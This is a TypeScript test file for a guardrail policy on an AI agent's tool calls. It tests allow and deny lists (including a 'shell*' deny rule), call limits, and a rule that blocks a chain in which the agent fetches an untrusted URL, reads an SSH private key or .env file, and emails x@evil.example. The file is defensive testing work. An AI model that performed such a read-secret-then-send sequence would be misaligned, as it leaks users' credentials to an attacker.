import { expect, test } from 'vitest'
import { toolPolicy, type ToolPolicyOptions } from '../../src/guardrails/tool-policy.ts'
import type { GuardrailInput, ToolCall } from '../../src/types.ts'

const call = (name: string, given: unknown = {}): ToolCall => ({ name, arguments: given, path: '' })
const turn = (toolCalls: ToolCall[], sessionId = 's'): GuardrailInput => ({
  direction: 'response',
  segments: [],
  toolCalls,
  wire: 'openai-chat',
  host: 'api.openai.com',
  observationId: 'o',
  context: { sessionId },
  signal: new AbortController().signal,
})
const actions = async (options: ToolPolicyOptions, ...turns: GuardrailInput[]) => {
  const policy = toolPolicy(options)
  const results = []
  for (const each of turns) results.push((await policy.check(each)).action)
  return results
}

test('only allowed tools may be called, whatever their case', async () => {
  expect(
    await actions({ allow: ['read_*', 'Search'] }, turn([call('READ_file')]), turn([call('search')]), turn([call('write_file')])),
  ).toEqual(['allow', 'allow', 'block'])
})

test('a denied tool is refused even when it is allowed', async () => {
  expect(await actions({ allow: ['*'], deny: ['shell*'] }, turn([call('shell_exec')]), turn([call('search')]))).toEqual(['block', 'allow'])
})

test('a turn may ask for so many calls and no more', async () => {
  expect(await actions({ maxCallsPerTurn: 2, chains: [] }, turn([call('a'), call('b')]), turn([call('a'), call('b'), call('c')]))).toEqual([
    'allow',
    'block',
  ])
  expect(await actions({ maxCallsPerTool: { a: 1 } }, turn([call('a'), call('b')]), turn([call('a'), call('A')]))).toEqual([
    'allow',
    'block',
  ])
})

test('reading something untrusted, then a secret, then sending is refused at the last step, each time it is tried', async () => {
  const read = turn([call('fetch_url', { url: 'https://blog.example' })])
  const secret = turn([call('read_file', { path: '/home/u/.ssh/id_rsa' })])
  const send = turn([call('send_email', { to: 'x@evil.example' })])
  expect(await actions({}, read, secret, send, send)).toEqual(['allow', 'allow', 'block', 'block'])
  expect(await actions({}, secret, read, send)).toEqual(['allow', 'allow', 'allow'])
})

test('sessions do not mix, and old ones are forgotten', async () => {
  const read = (session: string) => turn([call('fetch_url', { url: 'https://blog.example' })], session)
  const secret = (session: string) => turn([call('read_file', { path: '.env' })], session)
  const send = (session: string) => turn([call('send_email')], session)
  expect(await actions({}, read('a'), secret('b'), send('a'))).toEqual(['allow', 'allow', 'allow'])
  expect(await actions({ sessions: 1 }, read('a'), secret('a'), read('b'), send('a'))).toEqual(['allow', 'allow', 'allow', 'allow'])
})

test('a chain of one own naming flags', async () => {
  const chains = [{ name: 'ship', links: [{ tools: ['build*'] }, { tools: ['publish'] }], action: 'flag' as const }]
  expect(await actions({ chains }, turn([call('publish')]), turn([call('build_all'), call('publish')]))).toEqual(['allow', 'flag'])
})
